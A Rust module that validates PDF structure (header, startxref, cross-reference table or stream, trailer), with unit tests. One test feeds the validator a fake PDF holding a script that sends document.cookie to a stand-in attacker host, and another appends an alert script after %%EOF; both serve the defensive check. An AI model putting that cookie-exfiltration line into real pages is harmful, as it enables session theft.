//! A PDF is a header, a body, a cross-reference and a trailer; a reader starts at the end. The
//! check does the same: `%%EOF` closes the file, `startxref` before it gives an offset inside
//! the file, and at that offset is either an `xref` table (with a `trailer` dictionary naming
//! the document's `/Root` before `startxref`) or a cross-reference stream object
//! (`N G obj << /Type /XRef … /Root … >> stream`). Only the head, the tail and a window at the
//! cross-reference are read, whatever the size of the file.

use super::{Fail, ReadAt, Step, Window, malformed, read, tail};

const FORMAT: &str = "PDF";
/// How much of the end is searched for `%%EOF`, `startxref` and the trailer. ISO 32000 puts
/// `%%EOF` in the last 1024 bytes; a trailer with a long `/ID` needs more before it.
const TAIL_LEN: u64 = 16 * 1024;
/// How much is read at the cross-reference offset: a table's first lines, or a cross-reference
/// stream's dictionary (a long `/Index` included).
const WINDOW_LEN: usize = 16 * 1024;
/// More subsections than this is no table a writer produces.
const MAX_SUBSECTIONS: usize = 100_000;

pub(super) fn check<R: ReadAt + ?Sized>(source: &R) -> Step<R::Error> {
    let head = read(source, 0, 16)?;
    if !is_header(&head) {
        return Err(malformed(FORMAT, "the header is not %PDF-<major>.<minor>"));
    }
    let (tail_start, tail) = tail(source, TAIL_LEN)?;
    let end = tail.len() - trailing_whitespace(&tail);
    let before_eof = tail[..end]
        .strip_suffix(b"%%EOF")
        .ok_or_else(|| malformed(FORMAT, "the file does not end with %%EOF"))?;
    let startxref = rfind(before_eof, b"startxref")
        .ok_or_else(|| malformed(FORMAT, "there is no startxref before %%EOF"))?;
    let mut lexer = Lexer::new(&before_eof[startxref + b"startxref".len()..]);
    let offset = match (lexer.next_token(), lexer.next_token()) {
        (Some(Token::Integer(offset)), None) => offset,
        _ => {
            return Err(malformed(
                FORMAT,
                "startxref is not followed by one offset and %%EOF",
            ));
        }
    };
    let startxref_at = tail_start + startxref as u64;
    let offset = u64::try_from(offset)
        .ok()
        .filter(|&offset| offset >= 9 && offset < startxref_at)
        .ok_or_else(|| malformed(FORMAT, "startxref points outside the file"))?;
    let mut window = Window::new(source, WINDOW_LEN);
    if window.get(offset, 4)?.starts_with(b"xref") {
        check_xref_table(&mut window, offset + 4)
    } else {
        check_xref_stream(window.get(offset, WINDOW_LEN)?)
    }
}

/// `%PDF-1.7`, `%PDF-2.0`.
fn is_header(head: &[u8]) -> bool {
    head.strip_prefix(b"%PDF-").is_some_and(|version| {
        version.len() >= 3
            && version[0].is_ascii_digit()
            && version[1] == b'.'
            && version[2].is_ascii_digit()
    })
}

/// Walks the table's subsections (`first count` and `count` entries of 20 bytes each) to the
/// `trailer` that follows them: the trailer of *this* section, which names the `/Root` (the one
/// at the very end of a linearized file only gives `/Size`).
fn check_xref_table<R: ReadAt + ?Sized>(
    window: &mut Window<'_, R>,
    mut position: u64,
) -> Step<R::Error> {
    let eol = line_end(window.get(position, 4)?)
        .ok_or_else(|| malformed(FORMAT, "xref is not followed by a line end"))?;
    position += eol as u64;
    for _ in 0..MAX_SUBSECTIONS {
        let line = window.get(position, 128)?;
        let blank = line.iter().take_while(|&&b| is_whitespace(b)).count();
        if line[blank..].starts_with(b"trailer") {
            let at = position + (blank + b"trailer".len()) as u64;
            let mut lexer = Lexer::new(window.get(at, WINDOW_LEN)?);
            return check_trailer(&dictionary(&mut lexer)?, "the trailer");
        }
        let text_end = line
            .iter()
            .position(|&b| b == b'\n' || b == b'\r')
            .ok_or_else(|| malformed(FORMAT, "the xref table has no trailer"))?;
        let mut lexer = Lexer::new(&line[..text_end]);
        let count = match (lexer.next_token(), lexer.next_token(), lexer.next_token()) {
            (Some(Token::Integer(first)), Some(Token::Integer(count)), None)
                if first >= 0 && count >= 1 =>
            {
                count as u64
            }
            _ => {
                return Err(malformed(
                    FORMAT,
                    "the xref subsection header is not `first count`",
                ));
            }
        };
        let eol = line_end(&line[text_end..]).unwrap_or(1);
        position += (text_end + eol) as u64;
        if !is_xref_entry(window.get(position, 20)?) {
            return Err(malformed(
                FORMAT,
                "an xref entry is not `oooooooooo ggggg n`",
            ));
        }
        position = count
            .checked_mul(20)
            .and_then(|bytes| position.checked_add(bytes))
            .filter(|&end| end < window.size())
            .ok_or_else(|| malformed(FORMAT, "the xref table runs past the end of the file"))?;
    }
    Err(malformed(FORMAT, "the xref table has too many subsections"))
}

/// 10-digit offset, 5-digit generation, `n` or `f`, a two-byte line end.
fn is_xref_entry(entry: &[u8]) -> bool {
    entry.len() == 20
        && entry[..10].iter().all(u8::is_ascii_digit)
        && entry[10] == b' '
        && entry[11..16].iter().all(u8::is_ascii_digit)
        && entry[16] == b' '
        && matches!(entry[17], b'n' | b'f')
        && matches!(&entry[18..20], b" \n" | b" \r" | b"\r\n")
}

fn check_xref_stream<E>(window: &[u8]) -> Step<E> {
    if !window.first().is_some_and(u8::is_ascii_digit) {
        return Err(malformed(
            FORMAT,
            "startxref points at neither an xref table nor an object",
        ));
    }
    let mut lexer = Lexer::new(window);
    match (lexer.next_token(), lexer.next_token(), lexer.next_token()) {
        (
            Some(Token::Integer(number)),
            Some(Token::Integer(generation)),
            Some(Token::Keyword(b"obj")),
        ) if number > 0 && generation >= 0 => {}
        _ => {
            return Err(malformed(
                FORMAT,
                "startxref points at neither an xref table nor an object",
            ));
        }
    }
    let entries = dictionary(&mut lexer)?;
    if !entries
        .iter()
        .any(|(key, value)| key == b"Type" && *value == Value::Name(b"XRef".to_vec()))
    {
        return Err(malformed(
            FORMAT,
            "startxref points at an object that is not /Type /XRef",
        ));
    }
    check_trailer(&entries, "the xref stream")?;
    match lexer.next_token() {
        Some(Token::Keyword(b"stream")) => Ok(()),
        _ => Err(malformed(
            FORMAT,
            "the xref stream's dictionary is not followed by stream",
        )),
    }
}

/// What every trailer needs: how many objects there are, and the document's catalog.
fn check_trailer<E>(entries: &[(Vec<u8>, Value)], what: &str) -> Step<E> {
    let has = |name: &[u8], wanted: fn(&Value) -> bool| {
        entries
            .iter()
            .any(|(key, value)| key == name && wanted(value))
    };
    if !has(b"Size", |v| matches!(v, Value::Integer(n) if *n > 0)) {
        return Err(malformed(FORMAT, format!("{what} has no /Size")));
    }
    if !has(b"Root", |v| matches!(v, Value::Reference)) {
        return Err(malformed(FORMAT, format!("{what} has no /Root reference")));
    }
    Ok(())
}

/// What a dictionary's value is, as far as the checks care.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Value {
    Name(Vec<u8>),
    Integer(i64),
    /// `N G R`.
    Reference,
    Other,
}

/// `<< /Key value … >>` at the lexer's position, nested values skipped.
fn dictionary<E>(lexer: &mut Lexer<'_>) -> Result<Vec<(Vec<u8>, Value)>, Fail<E>> {
    let truncated = || malformed(FORMAT, "a dictionary is cut short or damaged");
    if lexer.next_token() != Some(Token::DictOpen) {
        return Err(malformed(FORMAT, "a dictionary was expected"));
    }
    let mut entries = Vec::new();
    loop {
        let key = match lexer.next_token().ok_or_else(truncated)? {
            Token::DictClose => return Ok(entries),
            Token::Name(key) => key,
            _ => return Err(truncated()),
        };
        let value = match lexer.next_token().ok_or_else(truncated)? {
            Token::Name(name) => Value::Name(name),
            Token::Integer(number) => {
                let saved = lexer.position;
                match (lexer.next_token(), lexer.next_token()) {
                    (Some(Token::Integer(_)), Some(Token::Keyword(b"R"))) => Value::Reference,
                    _ => {
                        lexer.position = saved;
                        Value::Integer(number)
                    }
                }
            }
            Token::DictOpen => {
                skip_nested(lexer, 1, 0).ok_or_else(truncated)?;
                Value::Other
            }
            Token::ArrayOpen => {
                skip_nested(lexer, 0, 1).ok_or_else(truncated)?;
                Value::Other
            }
            Token::DictClose | Token::ArrayClose | Token::Broken => return Err(truncated()),
            _ => Value::Other,
        };
        entries.push((key, value));
    }
}

/// Skips to the end of the dictionaries and arrays already opened.
fn skip_nested(lexer: &mut Lexer<'_>, mut dicts: usize, mut arrays: usize) -> Option<()> {
    while dicts + arrays > 0 {
        match lexer.next_token()? {
            Token::DictOpen => dicts += 1,
            Token::DictClose => dicts = dicts.checked_sub(1)?,
            Token::ArrayOpen => arrays += 1,
            Token::ArrayClose => arrays = arrays.checked_sub(1)?,
            Token::Broken => return None,
            _ => {}
        }
    }
    Some(())
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Token<'a> {
    DictOpen,
    DictClose,
    ArrayOpen,
    ArrayClose,
    /// Without the slash, `#xx` escapes decoded.
    Name(Vec<u8>),
    Integer(i64),
    Real,
    /// A literal or hexadecimal string.
    String,
    /// `obj`, `R`, `stream`, `true`, `null`, …
    Keyword(&'a [u8]),
    /// An unterminated string or a lone delimiter.
    Broken,
}

fn is_whitespace(byte: u8) -> bool {
    matches!(byte, b'\0' | b'\t' | b'\n' | b'\x0c' | b'\r' | b' ')
}

fn is_delimiter(byte: u8) -> bool {
    matches!(
        byte,
        b'(' | b')' | b'<' | b'>' | b'[' | b']' | b'{' | b'}' | b'/' | b'%'
    )
}

fn is_regular(byte: u8) -> bool {
    !is_whitespace(byte) && !is_delimiter(byte)
}

/// The PDF tokens the checks read, after ISO 32000-1 §7.2–7.3.
struct Lexer<'a> {
    bytes: &'a [u8],
    position: usize,
}

impl<'a> Lexer<'a> {
    fn new(bytes: &'a [u8]) -> Self {
        Lexer { bytes, position: 0 }
    }

    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.position).copied()
    }

    fn skip_whitespace_and_comments(&mut self) {
        while let Some(byte) = self.peek() {
            if is_whitespace(byte) {
                self.position += 1;
            } else if byte == b'%' {
                while self.peek().is_some_and(|b| b != b'\n' && b != b'\r') {
                    self.position += 1;
                }
            } else {
                break;
            }
        }
    }

    fn next_token(&mut self) -> Option<Token<'a>> {
        self.skip_whitespace_and_comments();
        let start = self.position;
        let byte = self.peek()?;
        self.position += 1;
        let token = match byte {
            b'<' if self.peek() == Some(b'<') => {
                self.position += 1;
                Token::DictOpen
            }
            b'>' if self.peek() == Some(b'>') => {
                self.position += 1;
                Token::DictClose
            }
            b'[' => Token::ArrayOpen,
            b']' => Token::ArrayClose,
            b'(' => self.literal_string(),
            b'<' => {
                while self
                    .peek()
                    .is_some_and(|b| b.is_ascii_hexdigit() || is_whitespace(b))
                {
                    self.position += 1;
                }
                if self.peek() == Some(b'>') {
                    self.position += 1;
                    Token::String
                } else {
                    Token::Broken
                }
            }
            b'/' => Token::Name(self.name()),
            b')' | b'>' | b'{' | b'}' => Token::Broken,
            _ => {
                while self.peek().is_some_and(is_regular) {
                    self.position += 1;
                }
                let word = &self.bytes[start..self.position];
                number(word).unwrap_or(Token::Keyword(word))
            }
        };
        Some(token)
    }

    fn literal_string(&mut self) -> Token<'a> {
        let mut depth = 1usize;
        while let Some(byte) = self.peek() {
            self.position += 1;
            match byte {
                b'\\' => self.position += 1,
                b'(' => depth += 1,
                b')' => {
                    depth -= 1;
                    if depth == 0 {
                        return Token::String;
                    }
                }
                _ => {}
            }
        }
        Token::Broken
    }

    fn name(&mut self) -> Vec<u8> {
        let mut name = Vec::new();
        while let Some(byte) = self.peek().filter(|&b| is_regular(b)) {
            self.position += 1;
            let escaped = self
                .bytes
                .get(self.position..self.position + 2)
                .and_then(|hex| std::str::from_utf8(hex).ok())
                .and_then(|hex| u8::from_str_radix(hex, 16).ok());
            match escaped {
                Some(decoded) if byte == b'#' => {
                    name.push(decoded);
                    self.position += 2;
                }
                _ => name.push(byte),
            }
        }
        name
    }
}

/// `123`, `-4`, `+7` as integers; `1.5`, `.5`, `-3.` as reals; anything else is no number.
fn number<'a>(word: &[u8]) -> Option<Token<'a>> {
    let digits = word
        .strip_prefix(b"+")
        .or_else(|| word.strip_prefix(b"-"))
        .unwrap_or(word);
    if digits.is_empty() {
        return None;
    }
    if digits.iter().all(u8::is_ascii_digit) {
        let text = std::str::from_utf8(word).ok()?;
        // An integer too large for i64 is no offset or count a reader could use.
        return Some(text.parse().map_or(Token::Real, Token::Integer));
    }
    let dots = digits.iter().filter(|&&b| b == b'.').count();
    let rest_digits = digits.iter().all(|&b| b.is_ascii_digit() || b == b'.');
    (dots == 1 && rest_digits && digits.len() > 1).then_some(Token::Real)
}

fn trailing_whitespace(bytes: &[u8]) -> usize {
    bytes
        .iter()
        .rev()
        .take_while(|&&b| is_whitespace(b))
        .count()
}

fn rfind(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack
        .windows(needle.len())
        .rposition(|window| window == needle)
}

/// The length of the line end (CR, LF or CRLF, spaces before it allowed) `bytes` start with.
fn line_end(bytes: &[u8]) -> Option<usize> {
    let spaces = bytes.iter().take_while(|&&b| b == b' ').count();
    match &bytes[spaces..] {
        [b'\r', b'\n', ..] => Some(spaces + 2),
        [b'\n' | b'\r', ..] => Some(spaces + 1),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::super::fixtures;
    use super::*;

    fn checked(bytes: &[u8]) -> Result<(), String> {
        match check(bytes) {
            Ok(()) => Ok(()),
            Err(Fail::Problem(problem)) => Err(problem.to_string()),
            Err(Fail::Source(never)) => match never {},
        }
    }

    fn refused(bytes: &[u8], why: &str) {
        let error = checked(bytes).expect_err("accepted");
        assert!(error.contains(why), "{error}");
    }

    #[test]
    fn a_real_pdf_with_an_xref_table_passes() {
        assert_eq!(checked(&fixtures::pdf()), Ok(()));
        // With CRLF line ends and trailing blank lines after %%EOF.
        assert_eq!(checked(&fixtures::pdf_with("\r\n")), Ok(()));
        let mut blank_lines = fixtures::pdf();
        blank_lines.extend_from_slice(b"\n\n  \r\n");
        assert_eq!(checked(&blank_lines), Ok(()));
    }

    #[test]
    fn a_pdf_with_an_xref_stream_passes() {
        assert_eq!(checked(&fixtures::pdf_with_xref_stream()), Ok(()));
    }

    #[test]
    fn the_sample_documents_pass() {
        let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../samples/documents");
        let mut seen = 0;
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            let bytes = std::fs::read(&path).unwrap();
            if bytes.starts_with(b"%PDF-") {
                assert_eq!(checked(&bytes), Ok(()), "{}", path.display());
                seen += 1;
            }
        }
        assert!(seen > 10);
    }

    #[test]
    fn a_header_in_front_of_a_web_page_is_refused() {
        refused(
            b"%PDF-1.4\n<html><script>fetch('https://evil.example/'+document.cookie)</script></html>",
            "%%EOF",
        );
        refused(b"%PDF-1.4\n<html></html>\n%%EOF\n", "no startxref");
    }

    #[test]
    fn the_offset_must_point_at_a_cross_reference() {
        let good = String::from_utf8(fixtures::pdf()).unwrap();
        let at = good.rfind("startxref\n").unwrap() + "startxref\n".len();
        let with_offset = |offset: &str| {
            let end = good[at..].find('\n').unwrap() + at;
            format!("{}{offset}{}", &good[..at], &good[end..]).into_bytes()
        };
        refused(&with_offset("99999999"), "outside the file");
        refused(&with_offset("0"), "outside the file");
        refused(&with_offset("-5"), "outside the file");
        refused(&with_offset("9"), "neither an xref table nor an object");
        refused(&with_offset("12 13"), "one offset");
        // An object that is not a cross-reference stream.
        let catalog = good.find("1 0 obj").unwrap().to_string();
        refused(&with_offset(&catalog), "not /Type /XRef");
    }

    #[test]
    fn a_table_needs_its_entries_and_a_trailer() {
        let good = String::from_utf8(fixtures::pdf()).unwrap();
        let damaged = good
            .replace("0000000000 65535 f", "000000 65535 f")
            .into_bytes();
        refused(&damaged, "xref entry");
        let no_root = good.replace("/Root 1 0 R", "/Info 1 0 R").into_bytes();
        refused(&no_root, "no /Root");
        let no_trailer = good.replace("trailer", "rumore").into_bytes();
        refused(&no_trailer, "subsection header");
        let no_size = good.replace("/Size", "/Count").into_bytes();
        refused(&no_size, "no /Size");
    }

    #[test]
    fn something_after_eof_is_refused() {
        let mut bytes = fixtures::pdf();
        bytes.extend_from_slice(b"<script>alert(1)</script>");
        refused(&bytes, "%%EOF");
        refused(b"%PDF-x.4\n", "header");
    }

    #[test]
    fn the_lexer_reads_names_strings_and_numbers() {
        let mut lexer = Lexer::new(
            b"<< /Ty#70e /XRef /ID [<0a1B> (a(b)\\)c)] /N -3 /R 1.5 /Root 2 0 R >> stream",
        );
        let dict = dictionary::<()>(&mut lexer).ok().unwrap();
        assert_eq!(dict[0], (b"Type".to_vec(), Value::Name(b"XRef".to_vec())));
        assert_eq!(dict[1], (b"ID".to_vec(), Value::Other));
        assert_eq!(dict[2], (b"N".to_vec(), Value::Integer(-3)));
        assert_eq!(dict[3], (b"R".to_vec(), Value::Other));
        assert_eq!(dict[4], (b"Root".to_vec(), Value::Reference));
        assert_eq!(lexer.next_token(), Some(Token::Keyword(b"stream")));
        assert!(dictionary::<()>(&mut Lexer::new(b"<< /A (unterminated >>")).is_err());
        assert!(dictionary::<()>(&mut Lexer::new(b"<< /A [1 2 >>")).is_err());
    }
}
